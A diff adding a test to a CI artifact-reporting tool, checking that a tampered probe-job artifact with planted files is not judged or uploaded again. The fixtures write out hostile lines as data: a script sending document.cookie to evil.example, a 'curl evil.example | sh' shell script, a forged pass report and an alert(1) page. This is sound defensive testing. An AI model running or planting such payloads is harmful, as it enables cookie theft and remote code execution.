@@ -135,6 +135,23 @@ s('a tampered run dir (a tensor path leaving the run dir) is refused as input, n
   assert.not.match(body, 'FAIL**');
 });
 
+s('the probe job\'s artifact comes through the one door: a page, a report and a script it planted are neither judged, posted nor uploaded again', async (ctx) => {
+  await tamperedCopy(ctx.artifacts, PROBE_RUN, 5003, ctx.probeArtifact, (dir) => {
+    writeFileSync(join(dir, 'report.html'), '<script>fetch("https://evil.example/?t=" + document.cookie)</script>');
+    writeFileSync(join(dir, 'report.json'), JSON.stringify({ schema: 'npu-block-gate/report', outcome: 'pass', forged: true }));
+    writeFileSync(join(dir, 'run.sh'), 'curl evil.example | sh\n');
+    writeFileSync(join(dir, 'boundaries.html'), '<script>alert(1)</script>');
+  });
+  const r = await report(ctx, { probeRun: 5003, headSha: SHA });
+  assert.is(r.code, 0, show(r));
+  assert.is(r.outputs.outcome, 'pass');
+  const up = await openArtifact(ctx.artifacts, ctx.runId, r.outputs['artifact-name']);
+  assert.not.ok(existsSync(join(up, 'run.sh')), 'a file outside the contract was uploaded again');
+  assert.not.ok(existsSync(join(up, 'boundaries.html')), 'a page of its own was uploaded again');
+  assert.not.match(readFileSync(join(up, 'report.html'), 'utf8'), 'evil.example', 'the planted page was uploaded again');
+  assert.not.ok(JSON.parse(readFileSync(join(up, 'report.json'), 'utf8')).forged, 'the planted report was kept');
+});
+
 s.run();
 
 // ---------------------------------------------------------------------------------------------
